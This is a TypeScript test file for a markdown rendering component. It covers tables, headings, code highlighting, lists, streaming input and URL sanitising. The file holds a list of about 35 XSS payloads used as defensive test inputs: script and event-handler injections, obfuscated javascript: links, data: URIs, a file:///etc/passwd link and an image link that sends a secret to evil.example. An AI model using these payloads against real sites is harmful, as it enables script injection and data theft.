import '../../../main/ui/src/ui/elements';
import { highlight } from '../../../main/ui/src/markdown/highlight';
import { safeAddress } from '../../../main/ui/src/markdown/blocks';
import { fakeServices } from './fakes';

async function rendered(text: string): Promise<HTMLElement> {
  const view = document.createElement('markdown-view') as HTMLElement & {
    app: unknown; text: string; updateComplete: Promise<boolean>;
  };
  view.app = fakeServices();
  view.text = text;
  document.body.append(view);
  await view.updateComplete;
  for (const code of view.querySelectorAll('code-block')) {
    await (code as typeof view).updateComplete;
  }
  return view;
}

afterEach(() => document.body.replaceChildren());

const plain = (element: Element | null): string => (element?.textContent ?? '').replace(/\s+/g, ' ').trim();

describe('markdown', () => {
  test('table_isATableWithHeadersAndAlignment', async () => {
    const view = await rendered('| a | b |\n|---|--:|\n| 1 | **2** |');
    expect(view.querySelectorAll('th[scope=col]')).toHaveLength(2);
    expect(view.querySelector('td.align-right strong')?.textContent).toBe('2');
  });

  test('headings_goBelowThoseOfThePage', async () => {
    const view = await rendered('# a\n## b\n### c\n###### d');
    expect([...view.querySelectorAll('h4,h5,h6')].map((h) => h.tagName)).toEqual(['H4', 'H4', 'H5', 'H6']);
    expect(view.querySelector('h1,h2,h3')).toBeNull();
  });

  test('code_isColouredAndKeepsItsText', async () => {
    const view = await rendered('```js\nconst a = "<b>";\n```');
    expect(view.querySelector('pre code')?.textContent).toBe('const a = "<b>";');
    expect(view.querySelector('.hljs-keyword')?.textContent).toBe('const');
  });

  test('lists_quotesAndBreaks_areThere', async () => {
    const view = await rendered('3. x\n4. y\n\n- a\n  - b\n\n> q\n\none\ntwo');
    expect(view.querySelector('ol')?.getAttribute('start')).toBe('3');
    expect(view.querySelectorAll('ul ul li')).toHaveLength(1);
    expect(plain(view.querySelector('blockquote'))).toBe('q');
    expect(view.querySelectorAll('br')).toHaveLength(1);
  });

  test('unfinishedMarkdown_whileItStreams_neverFails', async () => {
    const whole = '# T\n\n| a | b |\n|---|---|\n| `x` | [l](https://e.org) |\n\n```py\nx = 1\n```\n- *a* **b** ~~c~~';
    for (let length = 0; length <= whole.length; length++) {
      await rendered(whole.slice(0, length));
    }
  });
});

const HOSTILE = [
  '<script>window.pwned=1</script>',
  '<img src=x onerror="window.pwned=1">',
  '<svg><script>window.pwned=1</script></svg>',
  '<svg/onload=window.pwned=1>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<a href="javascript:window.pwned=1">x</a>',
  '<div style="position:fixed;inset:0">x</div>',
  '<math><mi//xlink:href="data:x,<script>alert(4)</script>">',
  '<details open ontoggle=window.pwned=1>',
  '<form action="https://evil.example"><input name=key></form>',
  '[x](javascript:window.pwned=1)',
  '[x](JaVaScRiPt:window.pwned=1)',
  '[x](java&#10;script:window.pwned=1)',
  '[x](&#x6A;avascript:window.pwned=1)',
  '[x](\u0001javascript:window.pwned=1)',
  '[x](vbscript:msgbox)',
  '[x](data:text/html,<script>window.pwned=1</script>)',
  '[x](data:image/svg+xml;base64,PHN2Zy8+)',
  '[x](file:///etc/passwd)',
  '[x](blob:http://localhost/1)',
  '![x](javascript:window.pwned=1)',
  '![x](https://evil.example/steal?secret=1)',
  '![x](//evil.example/a.png)',
  '[x]: javascript:window.pwned=1\n\n[x]',
  '<javascript:window.pwned=1>',
  '[a](https://e.org "onmouseover=window.pwned=1")',
  '[a](https://e.org/"onmouseover="window.pwned=1)',
  '```"><script>window.pwned=1</script>\nx\n```',
  '```html\n<script>window.pwned=1</script>\n```',
  '| <img src=x onerror=window.pwned=1> |\n|---|\n| <script>window.pwned=1</script> |',
  '# <img src=x onerror=window.pwned=1>',
  '`<img src=x onerror=window.pwned=1>`',
  '&lt;script&gt;window.pwned=1&lt;/script&gt;',
  '<!--[if gte IE 4]><script>window.pwned=1</script><![endif]-->',
  '${window.pwned=1} <?lit$0$?> <!--?lit$0$-->',
];

describe('hostile markdown', () => {
  test.each(HOSTILE)('%s', async (text) => {
    const view = await rendered(text);
    const loads = 'script,img,svg:not(.icon),iframe,object,embed,form,input,style,link,meta,base,math,video,audio';
    expect(view.querySelectorAll(loads)).toHaveLength(0);
    for (const element of view.querySelectorAll('*')) {
      for (const attribute of element.attributes) {
        expect(attribute.name).not.toMatch(/^on|^style$|^src/i);
      }
    }
    for (const link of view.querySelectorAll('a')) {
      expect(link.protocol).toMatch(/^(https?|mailto):$/);
      expect(link.rel).toContain('noopener');
      expect(link.target).toBe('_blank');
    }
    expect((window as { pwned?: number }).pwned).toBeUndefined();
  });

  test('html_isShownAsTheTextThatItIs', async () => {
    const view = await rendered('a <b onclick=x>bold</b> c');
    expect(plain(view)).toBe('a <b onclick=x>bold</b> c');
  });

  test('deepNesting_doesNotOverflow', async () => {
    await rendered('>'.repeat(3000) + ' x');
    await rendered('['.repeat(3000));
    await rendered('*'.repeat(5000) + 'x');
  });
});

test('safeAddress_onlyWebAndMail', () => {
  expect(safeAddress('https://e.org')).toBe('https://e.org');
  expect(safeAddress('mailto:a@e.org')).toBe('mailto:a@e.org');
  expect(safeAddress('/v1/models')).toBeUndefined();
  expect(safeAddress('javascript:1')).toBeUndefined();
  expect(safeAddress(null)).toBeUndefined();
});

test('highlight_unknownLanguageOrTooLong_isPlain', () => {
  expect(highlight('x', 'no-such')).toEqual(['x']);
  const long = 'let a;'.repeat(20_000);
  expect(highlight(long, 'js')).toEqual([long]);
});
